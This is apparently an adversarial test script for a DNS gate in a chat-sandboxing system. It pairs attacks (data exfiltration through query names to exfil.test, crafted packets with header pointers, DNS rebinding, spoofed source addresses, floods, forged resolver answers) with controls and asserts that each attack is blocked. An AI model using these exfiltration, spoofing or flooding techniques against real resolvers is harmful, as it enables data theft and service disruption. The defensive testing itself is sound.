#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Adversarial suite, DNS plane: what a chat tries to get out of, or past,
# the DNS gate (chatcelld). Each attack ("attack dns/NAME") sits beside a
# control showing the same question answered where a rule allows it, or
# the upstream answering it when asked directly. dnsmasq is the upstream
# on 127.0.0.10, with its query log (tests/lib/dns_gate.sh).
. "$(dirname "$0")/../lib/common.sh"
. "$CC_SRCDIR/tests/lib/dns_gate.sh"

dns_gate_setup
a=$(chat_user dns-adv-a)
b=$(chat_user dns-adv-b)
c=$(chat_user dns-adv-c)
chatcell-admin egress allow dns-adv-a --domain api.test >/dev/null
chatcell-admin egress allow dns-adv-b --domain api.test >/dev/null
chatcell-admin egress allow dns-adv-c --domain '*.exfil.test' --port 8000 >/dev/null
chat_user dns-adv-mark >/dev/null
chatcell-admin egress allow dns-adv-mark --domain '*.exfil.test' >/dev/null
ask() { in_session "$1" "$dns_probe" "${@:2}"; } # CHAT_ID [--tcp] SERVER NAME [TYPE]
# NAME never reached the upstream: a question asked after it (a new name,
# by a chat of its own, so no other chat's rate is spent) is in the
# upstream's log, which is in order, and NAME is not.
never_asked() {
	local mark="mark-$RANDOM$RANDOM.exfil.test"
	ask dns-adv-mark "$GATE" "$mark" >/dev/null
	upstream_asked "$mark" && ! grep -q "query\[[A-Z]*\] $1 from" "$DNS_LOG"
}

# Data in query names (CVE-2025-55284's path through a forwarding resolver).
is "$(ask dns-adv-c "$GATE" c0ffee.exfil.test)" "NOERROR tc=0 198.51.100.8" "control: C, with *.exfil.test, gets c0ffee.exfil.test"
ok "control: that question reached the upstream (its log shows it)" upstream_asked c0ffee.exfil.test
is "$(ask dns-adv-a "$GATE" 6c65616b2d6f6e65.exfil.test)" "REFUSED tc=0 -" "attack dns/exfil-query-name: A's data-laden name is refused"
if never_asked 6c65616b2d6f6e65.exfil.test; then leaked=0; else leaked=1; fi
is "$leaked" 0 "attack dns/exfil-query-name: and it never reached the upstream"
is "$(ask dns-adv-a --tcp "$GATE" 6c65616b2d74776f.exfil.test)" "REFUSED tc=0 -" "attack dns/exfil-tcp: over TCP too"
if never_asked 6c65616b2d74776f.exfil.test; then leaked=0; else leaked=1; fi
is "$leaked" 0 "attack dns/exfil-tcp: nothing reached the upstream"
is "$(ask dns-adv-a "$GATE" api.test TXT)" "NOERROR tc=0 -" "control: another record type of an allowed name (TXT) goes through"
# A name the gate reads one way and the upstream another: api.test ending
# in a pointer to the ID's first byte (0 here, the root; the gate's own ID
# upstream would make it read on into bytes the chat chose).
raw_rcode() { # CHAT_ID HEX: the RCODE of the gate's answer to these bytes over UDP
	in_session "$1" /usr/bin/python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(bytes.fromhex(sys.argv[1]), (sys.argv[2], 53))
print(s.recv(4096)[3] & 15)' "$2" "$GATE"
}
header=004201000001000000000000 api=03617069047465737400
is "$(raw_rcode dns-adv-a "${header}${api}00010001")" 0 "control: the same bytes with the name ending in the root byte get an answer"
is "$(raw_rcode dns-adv-a "${header}${api%00}c00000010001")" 1 "attack dns/header-pointer: a name pointing into the header is FORMERR, never forwarded"

# An allowed name that is an alias of a name the chat may not look up.
is "$("$dns_probe" 127.0.0.10 alias.test)" "NOERROR tc=0 198.51.100.5" "control: the upstream answers alias.test (a CNAME to other.test)"
chatcell-admin egress allow dns-adv-a --domain alias.test >/dev/null
is "$(ask dns-adv-a "$GATE" alias.test)" "REFUSED tc=0 -" "attack dns/cname-to-disallowed: alias.test -> other.test is refused"
is "$(in_session dns-adv-a "$probe" tcp 198.51.100.5 8000)" ECONNREFUSED "attack dns/cname-to-disallowed: and opened nothing"
chatcell-admin egress allow dns-adv-a --domain other.test >/dev/null
is "$(ask dns-adv-a "$GATE" alias.test)" "NOERROR tc=0 198.51.100.5" "control: with a rule for the target too, the alias resolves"

# Answers pointing inside the host or the cells (DNS rebinding).
chatcell-admin egress allow dns-adv-a --domain loop.test >/dev/null
chatcell-admin egress allow dns-adv-a --domain cellname.test >/dev/null
chatcell-admin egress allow dns-adv-a --domain priv.test >/dev/null
is "$("$dns_probe" 127.0.0.10 loop.test)" "NOERROR tc=0 127.0.0.1" "control: the upstream answers loop.test with 127.0.0.1"
is "$(ask dns-adv-a "$GATE" loop.test)" "NOERROR tc=0 -" "attack dns/rebind-loopback: the gate drops the 127.0.0.1 record"
is "$(ask dns-adv-a "$GATE" cellname.test)" "NOERROR tc=0 -" "attack dns/rebind-cell: the gate drops an address in the cell range"
is "$(ask dns-adv-a "$GATE" priv.test)" "NOERROR tc=0 -" "attack dns/rebind-private: the gate drops a private address"
chatcell-admin egress allow dns-adv-b --domain priv.test --private >/dev/null
is "$(ask dns-adv-b "$GATE" priv.test)" "NOERROR tc=0 10.99.0.4" "control: a --private rule lets B have it"
is "$("$dns_probe" 127.0.0.10 gw.test)" "NOERROR tc=0 169.254.1.1" "control: the upstream answers gw.test with the cells' gateway"
chatcell-admin egress allow dns-adv-b --domain gw.test --private >/dev/null
is "$(ask dns-adv-b "$GATE" gw.test)" "NOERROR tc=0 -" "attack dns/rebind-gateway: even a --private rule does not get the gateway (the host itself)"
run in_cell dns-adv-b nft list set inet chatcell dnsany4
[[ "$out" != *169.254.1.1* ]]
ok "attack dns/rebind-gateway: and it is not in B's learned set" test $? -eq 0
run in_cell dns-adv-a nft list set inet chatcell dnsany4
[[ "$out" != *127.0.0.1* && "$out" != *10.77.0.9* && "$out" != *10.99.0.4* ]]
ok "attack dns/rebind-*: none of them is in A's learned set" test $? -eq 0
# An answer naming an address of the host's own, here a public one: a
# packet from a cell to it is delivered to the host's services, past
# everything but the cell's table, which the answer would open.
ip addr add 198.51.100.77/32 dev lo
start_ready /usr/bin/python3 "$CC_SRCDIR/tests/lib/listener.py" 198.51.100.77:8000/tcp
host_listener=$READY_PID
chatcell-admin egress allow dns-adv-a --domain hostaddr.test --private >/dev/null
is "$("$dns_probe" 127.0.0.10 hostaddr.test)" "NOERROR tc=0 198.51.100.77" "control: the upstream answers hostaddr.test with an address of the host's"
is "$("$probe" tcp 198.51.100.77 8000)" ok "control: the host's own service listens there"
is "$(ask dns-adv-a "$GATE" hostaddr.test)" "NOERROR tc=0 -" "attack dns/rebind-host: the gate drops an address of the host's, public or not, even for a --private rule"
is "$(in_session dns-adv-a "$probe" tcp 198.51.100.77 8000)" ECONNREFUSED "attack dns/rebind-host: and A cannot reach the host's service through it"
# The same through a --host rule, which the host's own resolver resolves
# (whoever runs the name's DNS may point it at the host).
cp -p /etc/resolv.conf /run/resolv.conf.host
printf 'nameserver 127.0.0.10\n' >/etc/resolv.conf
run chatcell-admin egress allow dns-adv-a --host api.test --port 8001
is "$rc:$out" "0:$a: host api.test tcp 8001 (2 addresses) allowed" "control: a --host rule takes a name's addresses outside the host"
is "$(in_session dns-adv-a "$probe" tcp 198.51.100.4 8001)" ok "control: and A reaches them"
run chatcell-admin egress allow dns-adv-a --host hostself.test --port 8000
is "$rc:$err" "3:chatcell-admin egress: hostself.test resolves only to addresses chatcell never opens to a chat (loopback, the cells', the cells' gateway, or this host's own)" \
	"attack dns/host-rule-rebind: a --host rule for a name pointing at the host's own address and loopback is refused"
is "$(in_session dns-adv-a "$probe" tcp 198.51.100.77 8000)" ECONNREFUSED "attack dns/host-rule-rebind: and A cannot reach the host's service"
cp -p /run/resolv.conf.host /etc/resolv.conf
kill "$host_listener"
# A rule that loses --private takes the private addresses it opened.
in_session dns-adv-b "$dns_probe" "$GATE" priv.test >/dev/null
is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 10.99.0.4)" 1 "control: B learned priv.test's 10.99.0.4 (--private)"
chatcell-admin egress allow dns-adv-b --domain priv.test >/dev/null
is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 10.99.0.4)" 0 \
	"attack dns/private-downgrade: the same rule without --private takes 10.99.0.4 out of B's cell at once"
# Two rules match one name, one of them --private for one port: the
# private address opens for that rule's port alone, not for the other
# rule's (any port).
p=$(chat_user dns-adv-p)
chatcell-admin egress allow dns-adv-p --domain priv.test >/dev/null
chatcell-admin egress allow dns-adv-p --domain priv.test --port 8001 --private >/dev/null
is "$(ask dns-adv-p "$GATE" priv.test)" "NOERROR tc=0 10.99.0.4" "control: with a --private rule among those matching, the chat is told the private address"
is "$(in_cell dns-adv-p nft list set inet chatcell dns4 | grep -c '10.99.0.4 . tcp . 8001')" 1 "control: it is open on the --private rule's port"
is "$(in_cell dns-adv-p nft list set inet chatcell dnsany4 | grep -c 10.99.0.4)" 0 \
	"attack dns/private-other-rule: not on the other matching rule's (any port), which has no --private"

# Well-known DNS-over-HTTPS names: only an exact rule.
is "$("$dns_probe" 127.0.0.10 mozilla.cloudflare-dns.com)" "NOERROR tc=0 198.51.100.8" "control: the upstream answers mozilla.cloudflare-dns.com"
chatcell-admin egress allow dns-adv-a --domain '*.cloudflare-dns.com' >/dev/null
is "$(ask dns-adv-a "$GATE" mozilla.cloudflare-dns.com)" "REFUSED tc=0 -" "attack dns/doh-wildcard: *.cloudflare-dns.com does not allow a DNS-over-HTTPS name"
chatcell-admin egress allow dns-adv-b --domain mozilla.cloudflare-dns.com >/dev/null
is "$(ask dns-adv-b "$GATE" mozilla.cloudflare-dns.com)" "NOERROR tc=0 198.51.100.8" "control: an exact rule for it does"

# Other ways out for names: other resolvers, DNS and DoT to learned addresses.
is "$("$probe" udp 198.51.100.8 53)" ok "control: root reaches the resolver-like listener on 198.51.100.8:53/udp"
is "$(in_session dns-adv-a "$probe" udp 198.51.100.8 53)" EPERM "attack dns/direct-resolver: A's query to another resolver is refused"
run in_session dns-adv-a /bin/sh -c "$dns_probe $GATE api.test >/dev/null; $probe tcp 198.51.100.4 8001; $probe tcp 198.51.100.4 853"
is "$out" "ok
ECONNREFUSED" "attack dns/dot-learned: a learned address opens every port (8001) but DNS over TLS (853)"
is "$("$probe" tcp 198.51.100.4 853)" ok "control: root reaches 198.51.100.4:853"

# Speaking for another cell: a UDP question with B's address as its source.
run in_session dns-adv-a /usr/bin/python3 -c '
import errno, socket, sys
q = bytes.fromhex("abcd01000001000000000000") + b"\x03api\x04test\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND: bind any address, no privilege needed
s.bind((sys.argv[1], 0))
try:
    s.sendto(q, ("169.254.1.1", 53))
    print("sent")
except OSError as e:
    print(errno.errorcode[e.errno])' "$(in_cell dns-adv-b ip -4 -o addr show dev eth0 | awk '{ sub("/.*", "", $4); print $4 }')"
is "$out" ENETUNREACH "attack dns/spoofed-source: A cannot send with B's address (the kernel routes no foreign source)"
is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 198.51.100.4)" 0 \
	"attack dns/spoofed-source: nothing was opened for B"
in_session dns-adv-b "$dns_probe" "$GATE" api.test >/dev/null
is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 198.51.100.4)" 1 "control: B's own question does"

# Flooding: the rate limit (dns_burst 12, dns_rate 1/s) is per chat; past
# what the gate answers in the 10 s conntrack keeps a question
# (dns_burst + 10 x dns_rate: 22), the cell's table refuses the rest before
# they leave (no answer).
run in_session dns-adv-c "$dns_probe" --count 40 "$GATE" x.exfil.test
[[ "$out" =~ ^NOERROR=(1[1-5])\ REFUSED=([0-9]+)\ OTHER=0\ NONE=([0-9]+)$ ]] &&
	((${BASH_REMATCH[1]} + ${BASH_REMATCH[2]} <= 22 && ${BASH_REMATCH[2]} > 0 && ${BASH_REMATCH[3]} >= 18))
ok "attack dns/flood: 40 questions at once: about the burst (12) answered, some REFUSED, the rest stopped at the cell's cap ($out)" test $? -eq 0
is "$(ask dns-adv-b "$GATE" api.test)" "NOERROR tc=0 198.51.100.4" "control: another chat is not held back by C's flood"

# A gate that starts again (a crash, or a restart to read dns_allow) knows
# nothing of what the one before let cells learn, under rules that may be
# gone by then: every running cell forgets it.
is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 198.51.100.4)" 1 "control: B holds what it learned (api.test)"
kill "$GATED_PID"
wait "$GATED_PID" 2>/dev/null
: >"$GATED_LOG"
chatcelld 2>>"$GATED_LOG" &
GATED_PID=$!
timeout 10 tail -n +1 -f "$GATED_LOG" | grep -q -m1 'DNS gate on'
is "$(in_cell dns-adv-b nft list set inet chatcell dnsany4 | grep -c 198.51.100.4)" 0 \
	"attack dns/learned-outlive-gate: after a restart of the gate, before any question, B holds nothing learned"
is "$(ask dns-adv-b "$GATE" api.test)" "NOERROR tc=0 198.51.100.4" "control: and learns it again by asking"

# A rule taken away holds for the very next question: the gate looks at
# the registry again whenever its directory changed (inotify), before it
# answers.
d=$(chat_user dns-adv-d)
chatcell-admin egress allow dns-adv-d --domain api2.test >/dev/null
is "$(ask dns-adv-d "$GATE" api2.test)" "NOERROR tc=0 198.51.100.6" "control: D, allowed api2.test, is answered"
chatcell-admin egress deny dns-adv-d --domain api2.test >/dev/null
is "$(ask dns-adv-d "$GATE" api2.test)" "REFUSED tc=0 -" \
	"attack dns/ask-after-deny: the question right after the rule went is refused, though the answer is kept"
chatcell-admin egress allow dns-adv-d --domain api2.test >/dev/null
is "$(ask dns-adv-d "$GATE" api2.test)" "NOERROR tc=0 198.51.100.6" "control: given back, the rule holds at once too"

# Forged answers from an attacker who can send as the resolver (an
# off-host one: dns_servers on another host). The gate asks from a new
# socket for each question, on a port the kernel picks at random, which
# only the resolver's address and port reach. forging_resolver.py answers
# as a resolver, and also forges an answer with the question's ID: to the
# port the question before came from (a port learnt once), to the
# question's own port (the control: a port guessed right), or to it from
# another address. It says TTL 86400; the gate keeps and hands on no more
# than dns_max_ttl (5 s). (The kernel may give a question the port the one
# before had: about 1 in 28,000.)
kill "$GATED_PID"
wait "$GATED_PID" 2>/dev/null
FORGE_LOG=/run/forging-resolver.log
: >"$FORGE_LOG"
ip addr add 127.0.0.11/8 dev lo
start_ready /usr/bin/python3 "$CC_SRCDIR/tests/lib/forging_resolver.py" 127.0.0.11 127.0.0.12 86400 "$FORGE_LOG"
FORGER_PID=$READY_PID
sed -i 's/^dns_servers = .*/dns_servers = 127.0.0.11/' /etc/chatcell/chatcell.conf
printf 'dns_max_ttl = 5\n' >>/etc/chatcell/chatcell.conf
: >"$GATED_LOG"
chatcelld 2>>"$GATED_LOG" &
GATED_PID=$!
timeout 10 tail -n +1 -f "$GATED_LOG" | grep -q -m1 'DNS gate on'
chatcell-admin egress allow dns-adv-b --domain '*.forge.test' >/dev/null
asked() { grep -c " $1\$" "$FORGE_LOG"; } # how often the resolver was asked NAME
# The first answer record to an A question for NAME, asked in a session of
# CHAT_ID: "ADDRESS TTL", or "none" after 1 s (the gate's own wait for a
# resolver is 2 s). With "until-fresh" after NAME: asked again (one socket,
# so one flow in the cell's table; 5 a second, whatever the gate's rate
# refuses) until the TTL goes up, that is until the gate asked the resolver
# again, for at most 30 s; "fresh" then.
answer_of() { in_session "$1" /usr/bin/python3 -c "$dns_question_py"'
q = question(0x1234, sys.argv[1])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
s.connect(("169.254.1.1", 53))
last = None
for _ in range(150 if len(sys.argv) > 2 else 1):
    s.send(q)
    try:
        a = s.recv(4096)
    except socket.timeout:
        sys.exit(print("none"))
    i = len(q)
    if len(a) < i + 16:
        time.sleep(0.2)  # refused past the rate: ask again
        continue
    ttl, rdlen = struct.unpack(">IH", a[i + 6:i + 12])
    if len(sys.argv) == 2:
        sys.exit(print(socket.inet_ntoa(a[i + 12:i + 16]) if rdlen == 4 else "other", ttl))
    if last is not None and ttl > last:
        sys.exit(print("fresh"))
    last = ttl
    time.sleep(0.2)
print("never")' "${@:2}"; }
asked_at=$SECONDS
is "$(ask dns-adv-b "$GATE" first.forge.test)" "NOERROR tc=0 198.51.100.4" "control: the resolver answers B through the gate"
seen=$(answer_of dns-adv-b first.forge.test)
[[ "$seen" =~ ^198\.51\.100\.4\ [45]$ ]]
ok "a kept answer says TTL 5 (dns_max_ttl, counted down: $seen), not the resolver's 86400" test $? -eq 0
is "$(asked first.forge.test)" 1 "control: and came from the gate's cache (the resolver was asked once)"
is "$(ask dns-adv-b "$GATE" stale-1.forge.test)" "NOERROR tc=0 198.51.100.4" \
	"attack dns/forged-answer-known-port: an answer forged with the question's ID, sent to the port of the question before, is not taken"
is "$(ask dns-adv-b "$GATE" other-1.forge.test)" "NOERROR tc=0 198.51.100.4" \
	"attack dns/forged-answer-other-address: sent to the question's own port from an address that is not the resolver's, it is not taken"
is "$(ask dns-adv-b "$GATE" same-1.forge.test)" "NOERROR tc=0 198.51.100.66" \
	"control: sent to the question's own port from the resolver's address, the same forgery is taken (the port and the ID are what a forger must guess)"
is "$(awk '{print $1}' "$FORGE_LOG" | sort -u | wc -l):$(wc -l <"$FORGE_LOG")" "4:4" "each of the four questions came from a port of its own"
is "$(answer_of dns-adv-b first.forge.test until-fresh)" fresh "the gate asked the resolver for first.forge.test again"
kept=$((SECONDS - asked_at))
[ "$(asked first.forge.test)" = 2 ] && [ "$kept" -ge 4 ]
ok "attack dns/cached-past-max-ttl: a kept answer (forged or not) goes after dns_max_ttl (5 s; asked again after $kept s), though it said 86400" test $? -eq 0
# Kept answers are each chat's own: another chat's, its TTL counted down,
# would tell when that chat asked the name.
# (Two chats of their own: the others' rates are spent here.)
for chat in dns-adv-k1 dns-adv-k2; do
	chat_user "$chat" >/dev/null
	chatcell-admin egress allow "$chat" --domain '*.forge.test' >/dev/null
done
is "$(answer_of dns-adv-k1 kept-1.forge.test; answer_of dns-adv-k1 kept-1.forge.test | cut -d' ' -f1)" \
	"198.51.100.4 5"$'\n'"198.51.100.4" "K1 asks a name twice"
is "$(asked kept-1.forge.test)" 1 "control: K1's second question is answered from the gate's cache"
is "$(answer_of dns-adv-k2 kept-1.forge.test)" "198.51.100.4 5" \
	"attack dns/cache-other-chat: K2's answer to the name K1 asked has the whole TTL (5), not K1's counted down"
is "$(asked kept-1.forge.test)" 2 "and it was asked upstream, not answered from K1's kept answer"
# Questions the same as one already asked upstream wait on it: a chat that
# sends many at once gives a forger one chance, not one per question
# (RFC 5452, section 5). slow- names are answered 300 ms late.
# at_once CHAT_ID [--edns] NAME...: one A question per NAME, each with its
# own ID (with --edns, an OPT record offering 1232 + its number of bytes),
# all sent before any answer is read, from one socket; prints how many
# distinct questions got their own answer (their ID) with 198.51.100.4.
at_once() { in_session "$1" /usr/bin/python3 -c "$dns_question_py"'
edns = sys.argv[1] == "--edns"
if edns:
    del sys.argv[1]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(3)
s.connect(("169.254.1.1", 53))
for n, name in enumerate(sys.argv[1:]):
    s.send(question(0x100 + n, name, 1, 1232 + n if edns else 0))
good = set()
try:
    for _ in sys.argv[1:]:
        a = s.recv(4096)
        if socket.inet_aton("198.51.100.4") in a and 0x100 <= (a[0] << 8 | a[1]) < 0x100 + len(sys.argv) - 1:
            good.add(a[0] << 8 | a[1])
except socket.timeout:
    pass
print(len(good))' "${@:2}"; }
chatcell-admin egress allow dns-adv-d --domain '*.forge.test' >/dev/null # D's rate is untouched here
is "$(at_once dns-adv-d slow-1.forge.test slow-1.forge.test slow-1.forge.test slow-1.forge.test slow-1.forge.test)" 5 \
	"five questions for one name at once are all answered"
is "$(asked slow-1.forge.test)" 1 "attack dns/same-question-many-times: the resolver was asked once for them"
is "$(at_once dns-adv-d slow-2.forge.test slow-3.forge.test slow-4.forge.test)" 3 "control: three names at once are answered"
is "$(asked slow-2.forge.test):$(asked slow-3.forge.test):$(asked slow-4.forge.test)" 1:1:1 "and each was asked"
is "$(at_once dns-adv-d --edns slow-5.forge.test slow-5.forge.test slow-5.forge.test)" 3 \
	"three questions for one name offering different EDNS sizes are all answered"
is "$(asked slow-5.forge.test)" 1 \
	"attack dns/same-question-other-sizes: the resolver was asked once (the gate asks with its own size)"

# A flood of questions on one flow, past its first answer (established,
# where the flow cap no longer counts): dropped in the cell past the
# packet limit, so the gate's one socket, which every cell shares, does
# not fill with one chat's questions.
flood_count() { in_cell "$1" nft list counter inet chatcell dns_flood | sed -n 's/.*packets \([0-9]*\).*/\1/p'; }
p_flood=$(chat_user dns-adv-flood)
is "$(ask dns-adv-flood "$GATE" api.test):$(flood_count dns-adv-flood)" "REFUSED tc=0 -:0" \
	"control: a chat's question is answered, and nothing is dropped"
run in_session dns-adv-flood /usr/bin/python3 -c "$dns_question_py"'
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("169.254.1.1", 53))
s.send(question(1, "api.test"))
s.recv(4096)
refused = 0
for n in range(3000):
    try:
        s.send(question(n & 0xffff, "api.test"))
    except PermissionError:  # dropped on the way out: the sender is told
        refused += 1
print(refused)'
dropped=$(flood_count dns-adv-flood)
ok "attack dns/flood-established: of 3,000 questions sent at once on an answered flow, $dropped were dropped in the cell (at least 2,000)" \
	test "${dropped:-0}" -ge 2000
is "$out" "$dropped" "and the sender was told of each (EPERM)"
is "$(ask dns-adv-b "$GATE" api.test)" "NOERROR tc=0 198.51.100.4" "another chat's question is answered"

# A resolver whose port is closed (ICMP port unreachable) is passed over
# at once, not after the gate's 2 s wait.
kill "$GATED_PID"
wait "$GATED_PID" 2>/dev/null
sed -i 's/^dns_servers = .*/dns_servers = 127.0.0.13 127.0.0.11/' /etc/chatcell/chatcell.conf
: >"$GATED_LOG"
chatcelld 2>>"$GATED_LOG" &
GATED_PID=$!
timeout 10 tail -n +1 -f "$GATED_LOG" | grep -q -m1 'DNS gate on'
is "$(answer_of dns-adv-b failover.forge.test)" "198.51.100.4 5" \
	"with nothing on the first resolver's port, the second answers within 1 s"
is "$(asked failover.forge.test)" 1 "control: it was the second resolver that answered"
kill "$FORGER_PID"
wait "$FORGER_PID" 2>/dev/null

kill "$GATED_PID"
wait "$GATED_PID" 2>/dev/null
done_testing
